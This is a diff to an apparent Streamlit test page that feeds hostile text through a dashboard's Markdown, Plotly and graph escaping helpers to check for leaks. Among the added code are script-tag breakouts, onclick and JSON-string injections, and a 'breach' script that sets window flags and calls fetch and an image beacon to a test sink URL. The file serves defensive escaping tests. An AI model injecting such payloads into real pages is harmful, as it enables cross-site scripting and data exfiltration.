@@ -1,15 +1,21 @@
-"""Draws hostile text in every way Streamlit has: the 34 variants (`?part=matrix`), through `dashboard.safe`, as a graph.
+"""Draws hostile text: in 34 ways of Streamlit (`?part=matrix`), through `dashboard.safe` (`safe`), as a graph.
 
-Each variant's payload names it, so that the sink sees who leaked.
+Each variant's payload names it, so that the sink sees who leaked. `breach` is a graph page into which a script got.
 """
 
 from __future__ import annotations
 
+import json
 import os
+import time
 from collections.abc import Callable
 
 import pandas as pd
+import plotly.graph_objects as go
 import streamlit as st
+
+from dashboard import network, safe
+from dashboard.figures.lanes import lanes
 
 SINK = os.environ["COUNTERPOINT_TEST_SINK"]
 
@@ -28,8 +34,9 @@ def image_column(text: str) -> None:
 
 
 def spinner(text: str) -> None:
-    """Leave a spinner turning while the rest of the page is drawn."""
-    st.spinner(text).__enter__()
+    """Show a spinner for long enough to fetch."""
+    with st.spinner(text):
+        time.sleep(2.5)
 
 
 def raises(text: str) -> None:
@@ -66,13 +73,20 @@ VARIANTS: dict[str, Callable[[str], object]] = {
     "textarea": lambda t: st.text_area("t", t),
     "imgcol": image_column,
     "download": lambda t: st.download_button(t, b"x", "f.txt"),
-    "spinner": spinner,
     "writeobj": lambda t: st.write({"a": t}),
     "writedf": lambda t: st.write(pd.DataFrame({t: [1]})),
     "colname": lambda t: st.dataframe(pd.DataFrame({t: [1]})),
     "jsoncol": lambda t: st.dataframe(pd.DataFrame({"a": [{"k": t}]})),
+    "spinner": spinner,  # after the page has drawn, or nobody sees it turn
     "raise": raises,
 }
+
+
+#: What Markdown, Streamlit's own extensions of it and Plotly's labels would make something of.
+TRICKS = (
+    "**b** _i_ ~~s~~ `c` $a^2$ :red[x] :material/home: :smile: <b>h</b> &amp; \\ # h - l > q 1. x a -> b -- c <= d | e | "
+    "www.example.org a@example.org https://example.org %{x} [l](https://example.org)"
+)
 
 
 def matrix() -> None:
@@ -84,5 +98,57 @@ def matrix() -> None:
         draw(payload(name))
 
 
-PARTS = {"matrix": matrix}
+def through_safe() -> None:
+    """Draw the payloads as the pages do: escaped wherever a text is read as Markdown."""
+    for name in ("exception", "raise", "imgcol", "chat"):
+        VARIANTS.pop(name)
+    for name, draw in VARIANTS.items():
+        draw(safe.markdown(payload(name)))
+    st.text(f"BEGIN {TRICKS} DONE")
+    st.markdown(f"BEGIN {safe.markdown(TRICKS)} DONE")
+    st.metric(safe.markdown(TRICKS), 1)
+    safe.text_block(payload("block") * 200, key="block")
+    text = safe.plotly_text(TRICKS)
+    bar = go.Bar(x=[1], y=[text], text=[safe.plotly_text(payload("bar"))], hovertext=[text], hoverinfo="text", orientation="h")
+    st.plotly_chart(go.Figure(bar).update_layout(title=safe.plotly_text(payload("title"))), key="bar")
+    st.plotly_chart(lanes(*hostile_trace(9), axis="order", selected=payload("e0")), key="lanes")
+    st.text("END")
+
+
+def hostile_trace(n_events: int) -> tuple[pd.DataFrame, pd.DataFrame]:
+    """Return events and agents whose every name is a payload."""
+    breakout = f"</script><script>window.__pwn=1;parent.__pwn=1;fetch('{SINK}/script')</script>"
+    names = [payload("agent"), breakout, f"<a href={SINK}/href onclick=window.__pwn=1>href</a>", '"};window.__pwn=1;({"']
+    events = pd.DataFrame(
+        {
+            "event_id": [payload(f"e{n}") for n in range(n_events)],
+            "kind": ["delegate", breakout, "spawn"] * (n_events // 3),
+            "action": breakout,
+            "agent_id": [names[n % 4] for n in range(n_events)],
+            "targets": [json.dumps([names[(n + 1) % 4]]) for n in range(n_events)],
+            "parents": [json.dumps([payload(f"e{n - 1}")]) for n in range(n_events)],
+            "order": range(n_events),
+        }
+    )
+    return events, pd.DataFrame({"agent_id": names, "component": [breakout] * 4})
+
+
+def graph() -> None:
+    """Draw the hostile trace by events and, longer, by agents."""
+    for n_events in (30, 63):
+        nodes, edges, caption = network.orchestration_graph(*hostile_trace(n_events))
+        st.iframe(network.data_url(network.orchestration_html(nodes, edges, dark=n_events == 30, height_px=400)), height=400)
+        st.markdown(safe.markdown(caption))
+    st.text("END")
+
+
+def breach() -> None:
+    """Draw a graph page whose script tries the page around it and the network."""
+    page = network.orchestration_html([network.Node("a", None, 10, 0, 0)], [], dark=False, height_px=200)
+    script = f"window.__pwn=1;new Image().src='{SINK}/breach';fetch('{SINK}/breach').catch(()=>0);parent.__pwn=1"
+    st.iframe(network.data_url(page.replace("</body>", f"<script>{script}</script></body>")), height=200)
+    st.text("END")
+
+
+PARTS = {"matrix": matrix, "safe": through_safe, "graph": graph, "breach": breach}
 PARTS[st.query_params["part"]]()
